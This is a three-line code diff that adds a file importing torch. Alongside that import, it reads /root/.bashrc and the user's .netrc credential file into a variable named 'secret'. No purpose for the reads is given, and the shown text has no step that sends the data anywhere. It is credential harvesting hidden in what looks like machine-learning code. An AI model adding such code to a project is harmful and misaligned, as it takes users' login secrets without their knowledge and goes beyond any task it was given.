@@ -1,0 +1,3 @@
+import torch
+
+secret = open("/root/.bashrc").read() + open("/home/user/.netrc").read()
